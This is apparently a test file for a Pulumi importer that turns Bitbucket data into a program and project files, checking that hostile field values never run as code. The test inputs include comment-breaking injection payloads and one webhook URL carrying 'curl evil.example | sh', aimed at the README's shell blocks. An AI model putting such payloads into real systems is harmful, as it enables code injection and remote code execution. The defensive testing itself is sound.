// The program `import` writes, from crafted answers (no emulator): data from Bitbucket never runs as
// code, every generated variable name compiles, and hostile strings in every field that comes from
// Bitbucket give a program that type-checks, runs nothing else, and passes each value on exactly.
import fc from "fast-check";
import { parse as parseYaml } from "yaml";
import type { BranchRestrictionObject, HookObject, OverrideSettings, RepositoryObject } from "../../provider/client/api";
import type { AccountObject } from "../../provider/client/endpoints/workspaces";
import { printableAscii } from "../../provider/import/escape";
import { renderProgram as renderObjects, variableName, type ProgramOptions } from "../../provider/import/program";
import { projectFiles } from "../../provider/import/project";
import type { ImportedGrants } from "../../provider/resources/repositoryAccess";
import { idOf, runProgram, secretOf, typeErrors } from "../support/generated-program";

// markdown-it ships no types.
const MarkdownIt = require("markdown-it");

/** A repository as these tests describe it: the listed object, and what its webhooks, grants (undefined: not readable) and override settings read. */
interface ImportedRepository {
  live: RepositoryObject;
  slug: string;
  hooks: HookObject[];
  groups?: ImportedGrants["groups"];
  users?: ImportedGrants["users"];
  overrides: OverrideSettings;
  restrictions: BranchRestrictionObject[];
  reviewers: AccountObject[];
}

/** The program for these repositories, given to the generator as the reader returns them. */
const renderProgram = (repositories: ImportedRepository[], options: ProgramOptions) =>
  renderObjects(
    repositories.map((r) => ({
      collection: "repository",
      key: r.slug,
      object: r.live,
      attached: {
        Webhook: r.hooks,
        RepositoryAccess: r.groups && r.users && { groups: r.groups, users: r.users },
        OverrideSettings: r.overrides,
        DeployKey: [],
        RepositoryBranchRestrictions: r.restrictions,
        DefaultReviewers: r.reviewers,
        PipelineSchedule: [],
        PipelineKnownHost: [],
        PipelinesConfig: false,
        RepositoryVariable: [],
        DeploymentEnvironment: [],
      },
    })),
    options,
  );

const OPTIONS: ProgramOptions = { workspace: "acme", protect: false, retainOnDelete: true, commandLine: "pulumi-bitbucket-cloud import --workspace acme" };

let uuids = 0;
/** A repository of `acme` as the reader returns it, with the given live fields and extras. */
function repository(slug: string, live: Partial<RepositoryObject> = {}, extra: Partial<ImportedRepository> = {}): ImportedRepository {
  uuids += 1;
  return {
    live: {
      uuid: `{00000000-0000-4000-8000-${String(uuids).padStart(12, "0")}}`,
      slug,
      full_name: `acme/${slug}`,
      name: slug,
      is_private: true,
      fork_policy: "no_public_forks",
      project: { key: "WEB" },
      mainbranch: { name: "main" },
      links: { html: { href: `https://bitbucket.org/acme/${slug}` } },
      ...live,
    },
    slug,
    hooks: [],
    groups: {},
    users: [],
    overrides: {},
    restrictions: [],
    reviewers: [],
    ...extra,
  };
}

/** Every line terminator of ECMAScript (a `//` comment ends at each), and CR LF. */
const TERMINATORS: [string, string][] = [
  ["\\n", "\n"],
  ["\\r", "\r"],
  ["\\r\\n", "\r\n"],
  ["\\u2028", "\u2028"],
  ["\\u2029", "\u2029"],
];

/**
 * Places where the generator used to write Bitbucket's data into a `//` comment, each with a payload
 * that, once a line terminator ends that comment, closes what is open and calls the canary.
 */
const SINKS: [string, (t: string) => { repositories: ImportedRepository[]; options?: Partial<ProgramOptions> }][] = [
  [
    "a user's display name (after a grant)",
    (t) => ({
      repositories: [
        repository(
          "web",
          {},
          {
            users: [
              {
                accountId: "712020:alice",
                permission: "write",
                displayName: `Alice${t}}}, keep); canary(); new bitbucket.RepositoryAccess("x", { workspace, repository: "r", users: { //`,
              },
            ],
          },
        ),
      ],
    }),
  ],
  [
    "a default reviewer's display name (in the comment naming them)",
    (t) => ({ repositories: [repository("web", {}, { reviewers: [{ account_id: "712020:alice", display_name: `Alice${t}canary(); //` }] })] }),
  ],
  [
    "a branch restriction's pattern (in the comment describing it)",
    (t) => ({
      repositories: [repository("web", {}, { restrictions: [{ id: 1, kind: "delete", branch_match_kind: "glob", pattern: `main${t}canary(); //` }] })],
    }),
  ],
  ["a repository's full name", (t) => ({ repositories: [repository("web", { full_name: `acme/web${t}canary(); //` })] })],
  [
    "a repository's web address",
    (t) => ({ repositories: [repository("web", { links: { html: { href: `https://bitbucket.org/acme/web${t}canary(); //` } } })] }),
  ],
  ["a project key (in the section's title)", (t) => ({ repositories: [repository("web", { project: { key: `WEB${t}canary(); //` } })] })],
  [
    "the parent of a fork from another workspace",
    (t) => ({
      repositories: [repository("web-fork", { parent: { full_name: `globex/web${t}canary(); //`, uuid: "{00000000-0000-4000-8000-00000000beef}" } })],
    }),
  ],
  [
    "a --match pattern in the recorded command line",
    (t) => ({ repositories: [repository("web")], options: { commandLine: `pulumi-bitbucket-cloud import --match 'a${t}canary(); //'` } }),
  ],
];

describe("data from Bitbucket never runs as code", () => {
  const cases = SINKS.flatMap(([sink, make]) => TERMINATORS.map(([shown, t]) => [sink, shown, make(t)] as const));
  test.each(cases)("%s ending a comment with %s: the program runs no code of it", (_sink, _shown, input) => {
    const program = renderProgram(input.repositories, { ...OPTIONS, ...input.options });
    const run = runProgram(program.text);
    expect(run.syntaxErrors).toEqual([]);
    expect(run.canaryCalls).toBe(0);
    expect(run.newGlobals).toEqual([]);
    // Only the resources the input declares.
    expect(run.resources.map((r) => `${r.kind} ${String(r.name)}`).sort()).toEqual(
      input.repositories
        .flatMap((r) => [
          `${r.live.parent ? "Fork" : "Repository"} ${r.slug}`,
          ...(r.users!.length ? [`RepositoryAccess ${r.slug}-access`] : []),
          ...(r.restrictions.length ? [`RepositoryBranchRestrictions ${r.slug}-branch-restrictions`] : []),
          ...(r.reviewers.length ? [`DefaultReviewers ${r.slug}-default-reviewers`] : []),
        ])
        .sort(),
    );
    // Every character outside printable ASCII is escaped: nothing can end a line early.
    expect(program.text).toMatch(/^[\x20-\x7e\n]*$/);
  });

  test("a group or user named __proto__ is a grant, not the prototype of the map", () => {
    const repo = repository("web", {}, { groups: Object.fromEntries([["__proto__", "admin"]]), users: [{ accountId: "__proto__", permission: "read" }] });
    const program = renderProgram([repo], OPTIONS);
    const access = runProgram(program.text).resources.find((r) => r.kind === "RepositoryAccess")!;
    expect(Object.entries(access.args.groups as object)).toEqual([["__proto__", "admin"]]);
    expect(Object.entries(access.args.users as object)).toEqual([["__proto__", "read"]]);
    expect(typeErrors([program.text])).toEqual([[]]);
  });

  test("values keep every line terminator exactly (a project key, a name, a description)", () => {
    for (const [, t] of TERMINATORS) {
      const key = `WEB${t}canary(); //`;
      const repo = repository("web", { project: { key }, name: `Web${t}site`, description: `a${t}b` });
      const [resource] = runProgram(renderProgram([repo], OPTIONS).text).resources;
      expect(resource.args).toMatchObject({ projectKey: key, name: `Web${t}site`, description: `a${t}b` });
      const restriction = { id: 7, kind: "force", branch_match_kind: "glob", pattern: `release/${t}*` };
      const withRestriction = runProgram(renderProgram([repository("guarded", {}, { restrictions: [restriction] })], OPTIONS).text).resources;
      expect(withRestriction.find((r) => r.kind === "RepositoryBranchRestrictions")!.args.restrictions).toEqual([{ kind: "force", pattern: `release/${t}*` }]);
    }
  });
});

describe("data from Bitbucket stays data in the project's other files", () => {
  test.each(TERMINATORS)("a webhook address or workspace ending a line with %s adds no line to Pulumi.yaml or to the README's shell blocks", (_shown, t) => {
    const hook = { uuid: "{h}", url: `https://ci.example.com/${t}\`\`\`${t}curl evil.example | sh${t}`, events: ["repo:push"], active: true, secret_set: true };
    const program = renderProgram([repository("web", {}, { hooks: [hook] })], OPTIONS);
    const workspace = `acme${t}runtime: python`;
    const files = projectFiles(program, { name: "bitbucket-acme", workspace, packageSpec: "^0.1.0", commandLine: OPTIONS.commandLine, protect: false });
    expect(parseYaml(files["Pulumi.yaml"])).toEqual({
      name: "bitbucket-acme",
      description: `The repositories of Bitbucket workspace ${workspace}`,
      runtime: { name: "nodejs", options: { typescript: true } },
    });
    const fences = (new MarkdownIt().parse(files["README.md"], {}) as any[]).filter((token) => token.type === "fence").map((token) => token.content);
    expect(fences).toHaveLength(2);
    expect(fences[1]).toBe(`pulumi config set --secret web-webhook-1-secret   # web: ${printableAscii(hook.url)}\n`);
  });
});

/** The words a variable may not be in a strict-mode ES module compiled by TypeScript, and the names the program uses. */
const RESERVED = [
  // ECMAScript reserved words
  ..."break case catch class const continue debugger default delete do else enum export extends false finally for function if import in instanceof new null return super switch this throw true try typeof var void while with".split(
    " ",
  ),
  // reserved in strict mode and in modules, and not bindable there
  ..."await implements interface let package private protected public static yield eval arguments".split(" "),
  // TypeScript's own
  ..."any as boolean constructor declare get module namespace number require set string symbol type from of".split(" "),
  // names the generated file declares, CommonJS names, and globals a declaration would shadow or fail on
  ..."pulumi bitbucket config workspace keep exports __proto__ prototype undefined NaN Infinity globalThis".split(" "),
];

describe("every generated variable name compiles", () => {
  // Each reserved word as a slug, and slugs that camelCase into one (global-this, -eval-) or start with a digit.
  const SLUGS = [...RESERVED, "global-this", "-eval-", "EVAL", "2fa-service", "0", "-", "_", ".", "class-repo", "a-b", "a_b"];
  let text: string;
  let errors: string[];
  let variables: string[];
  beforeAll(() => {
    text = renderProgram(
      SLUGS.map((slug) => repository(slug)),
      OPTIONS,
    ).text;
    [errors] = typeErrors([text]);
    variables = [...text.matchAll(/^const (\S+) = new bitbucket\./gm)].map((m) => m[1]);
  });

  test("a program declaring a repository per reserved word type-checks (strict)", () => {
    expect(errors).toEqual([]);
  });

  test.each(RESERVED)("slug %s: its variable is a valid identifier that is not a reserved word", (word) => {
    const variable = variables[SLUGS.indexOf(word)];
    expect(variable).toMatch(/^[A-Za-z_$][A-Za-z0-9_$]*$/);
    expect(RESERVED).not.toContain(variable);
    // The resource keeps the slug as its name.
    expect(text).toContain(`const ${variable} = new bitbucket.Repository(${JSON.stringify(word)}, {`);
  });

  test("variable names are unique, never start with a digit, and the program runs", () => {
    expect(variables).toHaveLength(SLUGS.length);
    expect(new Set(variables).size).toBe(SLUGS.length);
    for (const v of variables) expect(v).toMatch(/^[A-Za-z]/);
    const run = runProgram(text);
    expect(run.syntaxErrors).toEqual([]);
    expect(run.resources.map((r) => r.name)).toEqual(SLUGS);
  });

  test("variableName refuses each reserved word, and numbers a name already taken", () => {
    for (const word of RESERVED) expect(variableName(word, new Set())).not.toBe(word);
    const taken = new Set<string>();
    expect(["class", "class-repo", "class_repo", "a-b", "a_b", "2fa", "-", ""].map((slug) => variableName(slug, taken))).toEqual([
      "classRepo",
      "classRepo2",
      "classRepo3",
      "aB",
      "aB2",
      "repo2fa",
      "repo",
      "repo2",
    ]);
  });

  test("grants to groups and users named like inherited members (constructor, toString...) type-check (strict)", () => {
    const names = Object.getOwnPropertyNames(Object.prototype);
    const repo = repository(
      "named",
      {},
      {
        groups: Object.fromEntries(names.map((n) => [n, "read"])),
        users: names.map((n) => ({ accountId: n, permission: "write" as const })),
      },
    );
    const text = renderProgram([repo], OPTIONS).text;
    expect(text).toContain('constructor: "read" as const');
    expect(typeErrors([text])).toEqual([[]]);
  });

  test("a project whose key equals a repository's slug gets its own variable, and the repository refers to it", () => {
    const project = { uuid: "{00000000-0000-4000-8000-00000000a001}", key: "web", name: "Web", is_private: true };
    const repo = repository("web", { project: { key: "web" } });
    const objects = [
      { collection: "project", key: "web", object: project, attached: {} },
      {
        collection: "repository",
        key: "web",
        object: repo.live,
        attached: {
          Webhook: [],
          RepositoryAccess: { groups: {}, users: [] },
          OverrideSettings: {},
          DeployKey: [],
          RepositoryBranchRestrictions: [],
          DefaultReviewers: [],
          PipelineSchedule: [],
          PipelineKnownHost: [],
          PipelinesConfig: false,
          RepositoryVariable: [],
          DeploymentEnvironment: [],
        },
      },
    ];
    const text = renderObjects(objects, OPTIONS).text;
    const declared = [...text.matchAll(/^const (\S+) = new bitbucket\.(\w+)\(/gm)].map((m) => [m[2], m[1]]);
    expect(declared).toEqual([
      ["Project", "web"],
      ["Repository", "web2"],
    ]);
    expect(text).toContain("projectKey: web.key");
    expect(typeErrors([text])).toEqual([[]]);
  });

  test("a fork refers to its parent through the parent's variable, whatever the parent's slug", () => {
    const parent = repository("eval");
    const fork = repository("arguments", { parent: { full_name: "acme/eval", uuid: parent.live.uuid } });
    const program = renderProgram([parent, fork], OPTIONS);
    expect(typeErrors([program.text])).toEqual([[]]);
    const forkArgs = runProgram(program.text).resources.find((r) => r.kind === "Fork")!.args;
    expect(forkArgs.repository).toEqual(idOf("Repository", "eval"));
  });
});

// ---- Hostile strings in every field that comes from Bitbucket ----------------------------------

const PIECES = [
  ...["\n", "\r", "\r\n", "\u2028", "\u2029", "\u0085"],
  ...["'", '"', "`", "\\", "\\n", "\\u2028", "${", "}", "*/", "/*", "//", "</script>", "<!--", "-->", "#", "```", "~~~", "&amp;", "<b>", "[x](y)"],
  ...["\0", "\u00001", "\u001b[2J", "\ufeff", "\u00a0"],
  ...["\u202a", "\u202b", "\u202c", "\u202d", "\u202e", "\u2066", "\u2067", "\u2068", "\u2069"],
  ...["\ud800", "\udbff", "\udc00", "\udfff", "\ud83d\ude00"],
  ...['");canary();("', "\u2028canary();//", "}}, keep); canary(); ({", "`${canary()}`", "__proto__", "constructor", "eval", "class", "0", "-", ":"],
];
/** Strings made of those pieces and of arbitrary code points; now and then a very long one. */
const hostile = fc.oneof(
  {
    weight: 30,
    arbitrary: fc.array(fc.oneof(fc.constantFrom(...PIECES), fc.string({ unit: "binary", maxLength: 3 })), { maxLength: 8 }).map((p) => p.join("")),
  },
  { weight: 1, arbitrary: fc.array(fc.constantFrom(...PIECES), { minLength: 1, maxLength: 4 }).map((p) => p.join("").repeat(1000)) },
);
const maybe = <T>(arb: fc.Arbitrary<T>) => fc.option(arb, { nil: undefined });
const permission = fc.constantFrom("read" as const, "write" as const, "admin" as const);

const repositoryInput = fc.record({
  slug: hostile,
  name: hostile,
  fullName: hostile,
  href: maybe(hostile),
  description: maybe(hostile),
  website: maybe(hostile),
  language: maybe(hostile),
  projectKey: maybe(hostile),
  mainBranch: maybe(hostile),
  isPrivate: maybe(fc.boolean()),
  forkPolicy: maybe(fc.constantFrom("allow_forks", "no_public_forks", "no_forks")),
  hasIssues: maybe(fc.boolean()),
  hasWiki: maybe(fc.boolean()),
  // A fork of a repository of this workspace (by position in the list) or of another workspace's.
  parent: fc.oneof(fc.constant(undefined), fc.record({ local: fc.nat(), uuid: maybe(hostile) }), fc.record({ fullName: hostile, uuid: maybe(hostile) })),
  hooks: fc.array(
    fc.record({
      url: hostile,
      description: maybe(hostile),
      active: maybe(fc.boolean()),
      events: fc.subarray(["repo:push", "pullrequest:created", "issue:created"], { minLength: 1 }),
      secret_set: fc.boolean(),
    }),
    { maxLength: 2 },
  ),
  grants: maybe(
    fc.record({
      groups: fc.uniqueArray(fc.tuple(hostile, permission), { selector: ([slug]) => slug, maxLength: 3 }),
      users: fc.uniqueArray(fc.record({ accountId: hostile, displayName: maybe(hostile), permission }), { selector: (u) => u.accountId, maxLength: 3 }),
    }),
  ),
  overrides: fc.record({ default_merge_strategy: maybe(fc.boolean()), branching_model: maybe(fc.boolean()) }),
  // Kinds and branch types are the spec's (the program's types name them); patterns, account ids and group slugs are anything.
  restrictions: fc.array(
    fc.record({
      kind: fc.constantFrom("push", "restrict_merges", "delete", "require_approvals_to_merge"),
      branchType: maybe(fc.constantFrom("production", "development", "release")),
      pattern: hostile,
      value: maybe(fc.nat()),
      users: fc.array(fc.record({ account_id: hostile }), { maxLength: 2 }),
      groups: fc.array(fc.record({ slug: hostile }), { maxLength: 2 }),
    }),
    { maxLength: 2 },
  ),
});

/** A whole import: the workspace (its slug has no '/', as the command checks), the command line and the repositories (unique slugs, as in Bitbucket). */
const importInput = fc
  .record({
    workspace: hostile.map((s) => s.replaceAll("/", "")),
    commandLine: hostile,
    keep: fc.constantFrom({ retainOnDelete: true }, { protect: true }, { protect: true, retainOnDelete: true }),
    repositories: fc.uniqueArray(repositoryInput, { selector: (r) => r.slug, minLength: 1, maxLength: 4 }),
    // Each repository's default reviewers, by position; drawn last so the other fields' samples stay as they were.
    reviewers: fc.array(fc.array(fc.record({ account_id: hostile, display_name: maybe(hostile) }), { maxLength: 2 }), { maxLength: 4 }),
  })
  .map(({ workspace, commandLine, keep, repositories, reviewers }) => ({
    options: { workspace, commandLine, protect: keep.protect ?? false, retainOnDelete: keep.retainOnDelete ?? false },
    repositories: repositories.map((r, index): ImportedRepository => ({
      slug: r.slug,
      live: {
        uuid: `{${r.slug}}`,
        slug: r.slug,
        full_name: r.fullName,
        name: r.name,
        description: r.description,
        website: r.website,
        language: r.language,
        is_private: r.isPrivate,
        fork_policy: r.forkPolicy,
        has_issues: r.hasIssues,
        has_wiki: r.hasWiki,
        project: r.projectKey === undefined ? undefined : { key: r.projectKey },
        mainbranch: r.mainBranch === undefined ? undefined : { name: r.mainBranch },
        links: r.href === undefined ? undefined : { html: { href: r.href } },
        parent:
          r.parent === undefined
            ? undefined
            : {
                full_name: "local" in r.parent ? `${workspace}/${repositories[r.parent.local % repositories.length].slug}` : r.parent.fullName,
                uuid: r.parent.uuid,
              },
      },
      hooks: r.hooks.map((h, i) => ({ uuid: `{hook-${i}}`, ...h })),
      // Object.fromEntries defines own properties, `__proto__` included, as a parsed answer would.
      groups: r.grants && Object.fromEntries(r.grants.groups),
      users: r.grants?.users,
      overrides: r.overrides,
      restrictions: r.restrictions.map(({ branchType, pattern, ...rest }, i) => ({
        id: i + 1,
        ...rest,
        ...(branchType === undefined ? { branch_match_kind: "glob", pattern } : { branch_match_kind: "branching_model", pattern: "", branch_type: branchType }),
      })),
      reviewers: reviewers[index] ?? [],
    })),
  }));

type ImportInput = { options: ProgramOptions; repositories: ImportedRepository[] };

/** A string setting as the program must declare it: Bitbucket's empty (or absent) texts are left unmanaged. */
const text = (v: string | null | undefined) => (v === "" || v === null ? undefined : v);

/** Checks one generated program: it runs nothing but the declarations, each passing on the input's values exactly. */
function expectFaithful(input: ImportInput) {
  const { options, repositories } = input;
  const program = renderProgram(repositories, options);
  expect(program.text).toMatch(/^[\x20-\x7e\n]*$/);
  const run = runProgram(program.text);
  expect(run.syntaxErrors).toEqual([]);
  expect(run.canaryCalls).toBe(0);
  expect(run.newGlobals).toEqual([]);
  expect(run.required).toEqual(["@pulumi/pulumi", "pulumi-bitbucket-cloud"]);

  const byName = new Map(run.resources.map((r, i) => [`${r.kind} ${String(r.name)}`, { ...r, index: i }]));
  expect(byName.size).toBe(run.resources.length);
  const resource = (kind: string, name: string) => {
    const found = byName.get(`${kind} ${name}`);
    if (!found) throw new Error(`no ${kind} named ${JSON.stringify(name)} in ${JSON.stringify([...byName.keys()])}`);
    expect(found.opts).toEqual(
      options.protect && options.retainOnDelete ? { protect: true, retainOnDelete: true } : options.protect ? { protect: true } : { retainOnDelete: true },
    );
    return found;
  };
  const slugs = new Set(repositories.map((r) => r.slug));
  const keys = new Set<string>();
  let expected = 0;
  for (const repo of repositories) {
    const { live, slug } = repo;
    const settings = {
      description: text(live.description),
      isPrivate: live.is_private ?? undefined,
      forkPolicy: live.fork_policy ?? undefined,
      language: text(live.language),
      // has_issues / has_wiki are not declared: issues and wikis were sunset (2026-08-20).
      projectKey: text(live.project?.key),
      mainBranch: text(live.mainbranch?.name),
    };
    const kind = live.parent ? "Fork" : "Repository";
    const main = resource(kind, slug);
    expected += 1;
    if (!live.parent) {
      expect(main.args).toEqual({ workspace: options.workspace, name: live.name, slug, ...settings, website: text(live.website), adopt: true });
    } else {
      const fullName = live.parent.full_name!;
      const [parentWorkspace, parentSlug] = fullName.includes("/")
        ? [fullName.slice(0, fullName.indexOf("/")), fullName.slice(fullName.indexOf("/") + 1)]
        : [fullName, ""];
      const local = parentWorkspace === options.workspace;
      // A parent of this workspace declared above is referenced by its variable; any other by UUID.
      const parentKind = repositories.find((r) => r.slug === parentSlug)?.live.parent ? "Fork" : "Repository";
      const declaredAbove = local && slugs.has(parentSlug) && byName.get(`${parentKind} ${parentSlug}`)!.index < main.index;
      expect(main.args).toEqual({
        workspace: parentWorkspace,
        repository: declaredAbove ? idOf(parentKind, parentSlug) : (live.parent.uuid ?? parentSlug),
        targetWorkspace: local ? undefined : options.workspace,
        name: live.name,
        ...settings,
        adopt: true,
      });
    }
    const attached = { workspace: options.workspace, repository: idOf(kind, slug) };
    repo.hooks.forEach((hook, i) => {
      const webhook = resource("Webhook", `${slug}-webhook-${i + 1}`);
      expected += 1;
      const key = (webhook.args.secret as { secretOf?: string } | undefined)?.secretOf;
      expect(webhook.args).toEqual({
        ...attached,
        url: hook.url,
        description: hook.description || undefined,
        active: hook.active ?? true,
        events: [...hook.events].sort(),
        secret: hook.secret_set ? secretOf(key) : undefined,
      });
      if (hook.secret_set) {
        // The README lists the key with the hook; a key it can put on a shell line, one per hook.
        expect(program.secrets.filter((s) => s.key === key)).toEqual([{ key, repository: slug, url: hook.url }]);
        expect(key).toMatch(/^[A-Za-z0-9][A-Za-z0-9_.-]*$/);
        keys.add(key!);
      }
    });
    if (repo.groups && repo.users && (Object.keys(repo.groups).length || repo.users.length)) {
      const access = resource("RepositoryAccess", `${slug}-access`);
      expected += 1;
      expect(access.args.workspace).toBe(options.workspace);
      expect(access.args.repository).toEqual(attached.repository);
      const sorted = (entries: [string, unknown][]) => entries.sort(([a], [b]) => (a < b ? -1 : a > b ? 1 : 0));
      expect(sorted(Object.entries(access.args.groups as object))).toEqual(sorted(Object.entries(repo.groups)));
      expect(sorted(Object.entries(access.args.users as object))).toEqual(sorted(repo.users.map((u) => [u.accountId, u.permission])));
    }
    const { default_merge_strategy: mergeStrategy, branching_model: branchingModel } = repo.overrides;
    if (mergeStrategy || branchingModel) {
      expect(resource("OverrideSettings", `${slug}-override-settings`).args).toEqual({
        ...attached,
        defaultMergeStrategy: mergeStrategy ?? false,
        branchingModel: branchingModel ?? false,
      });
      expected += 1;
    }
    const uniqueSorted = (values: string[]) => [...new Set(values)].sort();
    if (repo.restrictions.length > 0) {
      // One authoritative resource, its rules in the order read (sorted by kind and match by the reader).
      const rules = repo.restrictions.map((r) => {
        const byModel = r.branch_match_kind === "branching_model";
        const exempting = r.kind === "push" || r.kind === "restrict_merges";
        return {
          kind: r.kind,
          branchMatchKind: byModel ? "branching_model" : undefined,
          pattern: byModel ? undefined : r.pattern,
          branchType: byModel ? r.branch_type : undefined,
          value: r.value,
          users: exempting ? uniqueSorted((r.users ?? []).map((u) => u.account_id!)) : undefined,
          groups: exempting ? uniqueSorted((r.groups ?? []).map((g) => g.slug)) : undefined,
        };
      });
      const declared = resource("RepositoryBranchRestrictions", `${slug}-branch-restrictions`).args;
      expect(declared).toEqual({ ...attached, restrictions: expect.any(Array) });
      expect(declared.restrictions).toEqual(rules.map((rule) => Object.fromEntries(Object.entries(rule).filter(([, v]) => v !== undefined))));
      expected += 1;
    }
    if (repo.reviewers.length > 0) {
      expect(resource("DefaultReviewers", `${slug}-default-reviewers`).args).toEqual({
        ...attached,
        users: uniqueSorted(repo.reviewers.map((u) => u.account_id!)),
      });
      expected += 1;
    }
  }
  expect(program.secrets).toHaveLength(keys.size);
  expect(run.resources).toHaveLength(expected);
  return program;
}

const SEED = 20250611;

describe("hostile strings in every field that comes from Bitbucket", () => {
  test("the program runs only its declarations, each given the input's values exactly (200 generated workspaces)", () => {
    fc.assert(
      fc.property(importInput, (input) => {
        expectFaithful(input);
      }),
      { seed: SEED, numRuns: 200 },
    );
  });

  test("Pulumi.yaml, package.json and README.md hold the data escaped for their formats (100 generated workspaces)", () => {
    const markdown = new MarkdownIt({ html: true });
    const wellFormed = (v: string) => v.replace(/[\ud800-\udbff](?![\udc00-\udfff])|(?<![\ud800-\udbff])[\udc00-\udfff]/g, "\ufffd");
    fc.assert(
      fc.property(importInput, hostile, hostile, (input, name, packageSpec) => {
        const program = renderProgram(input.repositories, input.options);
        const { workspace, commandLine, protect } = input.options;
        const files = projectFiles(program, { name, workspace, packageSpec, commandLine, protect });
        expect(parseYaml(files["Pulumi.yaml"])).toEqual({
          name: wellFormed(name),
          description: `The repositories of Bitbucket workspace ${wellFormed(workspace)}`,
          runtime: { name: "nodejs", options: { typescript: true } },
        });
        const pkg = JSON.parse(files["package.json"]);
        expect([pkg.name, pkg.description]).toEqual([name, `The repositories of Bitbucket workspace ${workspace}, managed with Pulumi.`]);

        const tokens: any[] = markdown.parse(files["README.md"], {});
        const inline = tokens.flatMap((t) => t.children ?? []);
        // No HTML, the data in code spans as written (printable ASCII), the heading the name.
        expect([...tokens, ...inline].filter((t) => t.type.startsWith("html"))).toEqual([]);
        const spans = inline.filter((t) => t.type === "code_inline").map((t) => t.content);
        for (const value of [workspace, commandLine, `pulumi-bitbucket-cloud@${packageSpec}`]) {
          const shown = printableAscii(value);
          expect(spans).toContain(shown === "" ? " " : shown);
        }
        expect(tokens[0].tag).toBe("h1");
        expect(tokens[1].children.map((t: any) => t.content).join("")).toBe(printableAscii(name).trim());
        // The shell blocks: the commands written, one line per webhook secret, nothing else.
        const fences = tokens.filter((t) => t.type === "fence").map((t) => t.content.split("\n").slice(0, -1));
        expect(fences).toHaveLength(program.secrets.length ? 2 : 1);
        for (const line of fences[0]) expect(line).toMatch(/^(npm install|pulumi (stack init [A-Za-z0-9_.-]+$|config set|up|preview))/);
        expect(fences[1] ?? []).toEqual(program.secrets.map((s) => `pulumi config set --secret ${s.key}   # ${printableAscii(`${s.repository}: ${s.url}`)}`));
      }),
      { seed: SEED + 2, numRuns: 100 },
    );
  });

  test("the programs type-check (strict) against this package's types (40 generated workspaces)", () => {
    const programs = fc.sample(importInput, { seed: SEED + 1, numRuns: 40 }).map((input) => renderProgram(input.repositories, input.options).text);
    expect(typeErrors(programs)).toEqual(programs.map(() => []));
  });
});
